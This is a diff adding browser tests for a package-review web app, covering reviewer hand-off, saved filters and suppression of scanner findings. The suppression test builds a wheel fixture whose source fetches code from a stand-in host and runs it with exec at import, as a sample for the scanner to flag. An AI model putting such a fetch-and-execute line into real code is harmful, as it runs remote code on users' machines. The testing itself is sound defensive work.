@@ -200,6 +200,78 @@ describe('the review page', { skip: NO_BROWSER }, () => {
     await author.context().close();
   });
 
+  it('keeps two reviewers apart, and tells the second who has it in hand', async () => {
+    const firstName = await reviewer();
+    const first = await visit(browser, server, firstName);
+    await first.page.locator('.queue-row').first().waitFor();
+    const second = await visit(browser, server, await reviewer());
+    await second.page.locator('.queue-row').first().waitFor();
+    // Looked at for a moment, it is in the first one's hands; the second page hears of it by itself.
+    const row = second.page.locator('.queue-row[aria-selected="true"]');
+    await row.getByText(`in the hands of ${firstName}`).waitFor();
+    await second.page.locator('.preview').getByText(`${firstName} has this in hand`).waitFor();
+    const before_ = (await waiting()).length;
+    await second.page.keyboard.press('d');
+    await second.page.keyboard.press('Enter');
+    await second.page.getByText(`${firstName} has this campaign in hand. Look at it together`).waitFor();
+    assert.equal((await waiting()).length, before_);
+    // The first one goes on to something else.
+    await first.page.goto(`${server.url}appeals`);
+    await first.page.goto('about:blank');
+    assert.deepEqual(first.problems, []);
+    for (const { page } of [first, second]) await page.context().close();
+  });
+
+  it('keeps filters by name in this browser', async () => {
+    const { page, problems } = await visit(browser, server, await reviewer());
+    const search = page.getByRole('searchbox');
+    await search.fill('no-such-project');
+    await page.getByText('Nothing waits').waitFor();
+    await page.getByRole('button', { name: 'Save this filter…' }).click();
+    await page.getByLabel('Name of the filter').fill('Mine');
+    await page.getByRole('button', { name: 'Save', exact: true }).click();
+    await search.fill('');
+    await page.locator('.queue-row').first().waitFor();
+    await page.reload();
+    await page.locator('.queue-row').first().waitFor();
+    await page.getByRole('button', { name: 'Mine', exact: true }).click();
+    await page.getByText('Nothing waits').waitFor();
+    assert.equal(await search.inputValue(), 'no-such-project');
+    assert.deepEqual(await seriousViolations(page), []);
+    await page.getByRole('button', { name: 'Forget the filter Mine' }).click();
+    await page.reload();
+    await page.locator('.queue-row').first().waitFor();
+    assert.equal(await page.getByRole('button', { name: 'Mine', exact: true }).count(), 0);
+    assert.deepEqual(problems, []);
+    await page.context().close();
+  });
+
+  it('suppresses a finding, lists what is suppressed, and says so beside the next release', async () => {
+    const source = `import urllib.request\n\n\ndef load():\n    exec(urllib.request.urlopen('https://updates.invalid/x').read())\n\n\nload()\n`;
+    const first = await upload('quiet-1.0-py3-none-any.whl', wheel('quiet', source));
+    const { page, problems } = await visit(browser, server, await reviewer());
+    await page.goto(`${server.url}distributions/${first}?tab=findings`);
+    const card = page.locator('article', { hasText: 'execution/fetch-then-exec' });
+    await card.getByRole('button', { name: 'Suppress in this project…' }).click();
+    await page.getByLabel('Reason').fill('Our own <b>server</b>.');
+    assert.equal(await page.getByLabel('Days until it ends').inputValue(), '90');
+    await page.getByRole('button', { name: 'Suppress', exact: true }).click();
+    await page.getByText('Suppressed from the next scan on').waitFor();
+    const next = await upload('quiet-1.0-py3-none-any.whl', wheel('quiet', source, 'Another text.'));
+    await page.goto(`${server.url}distributions/${next}?tab=findings`);
+    await page.getByRole('heading', { name: '1 suppressed: seen, and not counted' }).waitFor();
+    await page.getByText('Suppressed by user:', { exact: false }).waitFor();
+    await page.getByText('Our own <b>server</b>.').waitFor();
+    assert.deepEqual(await seriousViolations(page), []);
+    await page.getByRole('link', { name: 'Suppressions' }).click();
+    await page.getByRole('cell', { name: 'quiet' }).waitFor();
+    assert.deepEqual(await seriousViolations(page), []);
+    await page.getByRole('button', { name: 'Revoke' }).click();
+    await page.getByText('Everything counts.').waitFor();
+    assert.deepEqual(problems, []);
+    await page.context().close();
+  });
+
   it('keeps up with what happens elsewhere', async () => {
     const { page } = await visit(browser, server, await reviewer());
     await page.locator('.queue-row').first().waitFor();
